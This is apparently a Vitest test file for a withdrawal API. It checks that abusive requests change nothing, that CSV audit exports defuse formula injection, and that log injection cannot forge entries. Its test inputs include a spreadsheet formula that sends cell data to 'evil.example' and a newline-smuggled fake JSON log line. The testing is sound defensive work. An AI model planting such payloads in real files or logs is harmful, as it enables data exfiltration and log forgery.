import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { csvText } from '../../../reporting/formats/csv.ts';
import { recordOutput } from '../../canary/record-output.ts';
import { startTreasury, type Treasury } from '../../generative/world/treasury.ts';
import type { WireAnswer } from '../../generative/world/wire.ts';
import { type AbuseCase, CASES, DEFAULT_TARGET } from './cases.ts';
import { abusePage } from './page.ts';
import { RAW_CASES, sendRaw } from './raw-cases.ts';

const PAGE = '../../../docs/abuse.md';
const CODE = /urn:sluice:problem:([a-z-]+)/;
/** Bytes of an answer that refuses: it repeats little of what was sent. */
const MAX_REFUSAL_BYTES = 4_096;
/** What a spreadsheet would run, and a line that would look like the log's own. */
const FORMULA = '=HYPERLINK("http://evil.example?x="&A1)';
/** One cell of a CSV, and what ends it. */
const CELL = /("(?:[^"]|"")*"|[^,\r\n]*)(?:,|\r\n)/g;
const FORGED = 'x\n{"level":"ERROR","message":"forged"}';

let treasury: Treasury;
let logged: () => string;

beforeAll(async () => {
  logged = recordOutput();
  treasury = await startTreasury();
  await treasury.begin();
});
afterAll(async () => {
  await treasury?.stop();
  vi.restoreAllMocks();
});

async function send(of: Partial<AbuseCase>, user: 'treasurer' = 'treasurer'): Promise<WireAnswer> {
  const { method = 'POST', target = DEFAULT_TARGET, headers = {}, body } = of;
  const authorization = treasury.bearers[user] ?? '';
  const type = { 'content-type': 'application/json', 'idempotency-key': crypto.randomUUID() };
  return await treasury.send({
    method,
    target,
    headers: { authorization, ...(body === undefined ? {} : type), ...headers },
    body: body === undefined ? null : Buffer.from(body),
  });
}

describe('a request that no caller sends by mistake', () => {
  it('is answered as docs/abuse.md says, has changed nothing, and comes back nowhere', async () => {
    const before = await treasury.contents();
    const answers: WireAnswer[] = [];
    for (const each of CASES) answers.push(await send(each));
    const raw: string[] = [];
    for (const each of RAW_CASES) {
      raw.push(await sendRaw(treasury.port, treasury.bearers.treasurer ?? '', each));
    }
    const seen = answers.map(({ status, body }) => [status, CODE.exec(String(body))?.[1] ?? null]);
    const wanted = CASES.map(({ status, code }) => [status, code]);
    expect(seen.map((each, index) => [CASES[index]?.input, ...each])).toEqual(
      wanted.map((each, index) => [CASES[index]?.input, ...each]),
    );
    for (const { headers, body } of answers) {
      expect(headers).not.toHaveProperty('set-cookie');
      expect(body.length).toBeLessThan(MAX_REFUSAL_BYTES);
    }
    const statuses = raw.map((text) => Number(/^HTTP\/1\.1 (\d+)/.exec(text)?.[1]));
    expect(statuses).toEqual(RAW_CASES.map(({ status }) => status));
    // One answer each: what was hidden in a request is no request of its own.
    for (const text of raw) expect(text.match(/HTTP\/1\.1 /g)).toHaveLength(1);
    expect(await treasury.contents()).toBe(before);
    expect(treasury.postsSince()).toBe(0);
    expect(treasury.failures).toEqual([]);
    expect({}).not.toHaveProperty('isAdmin');
    await expect(abusePage(CASES, RAW_CASES)).toMatchFileSnapshot(PAGE);
  });

  it('is kept as words where words may be anything, and is no formula in a file of them', async () => {
    const accounts = await send({ method: 'GET', target: '/v1/accounts' });
    const { items } = JSON.parse(String(accounts.body));
    const withdrawalAccountId = items.find(
      ({ currency }: { currency: string }) => currency === 'BTC',
    ).id;
    const body = JSON.stringify({ withdrawalAccountId, amount: '0.01', comment: FORMULA });
    const asked = await send({ body });
    expect(asked.status).toBeLessThan(300);
    const file = await send({ method: 'GET', target: '/v1/audit?format=csv' });
    expect(file.headers['content-type']).toContain('text/csv');
    const text = String(file.body);
    expect(text).toContain('HYPERLINK');
    const cells = [...text.matchAll(CELL)].map(([, cell = '']) => cell.replace(/^"/, ''));
    expect(cells.length).toBeGreaterThan(10);
    for (const cell of cells) expect(cell).not.toMatch(/^[=+@\t-]/);
    // Where it would be a cell of its own, an apostrophe stands before it.
    expect(csvText([[FORMULA]])).toMatch(/^"?'=HYPERLINK/);
  });

  it('makes no line of the log, whatever it says', async () => {
    const before = logged().length;
    const body = JSON.stringify({ comment: FORGED, [FORGED]: FORGED });
    await send({ body });
    await send({ method: 'GET', target: `/v1/withdrawals/${encodeURIComponent(FORGED)}` });
    await send({ method: 'GET', target: `/v1/withdrawals?state=${encodeURIComponent(FORGED)}` });
    await send({
      method: 'GET',
      target: '/v1/lanes',
      headers: { 'user-agent': 'x {"level":"ERROR"}' },
    });
    const lines = logged()
      .slice(before)
      .split('\n')
      .filter((line) => line !== '');
    for (const line of lines) expect(JSON.parse(line)).not.toMatchObject({ message: 'forged' });
  });
});
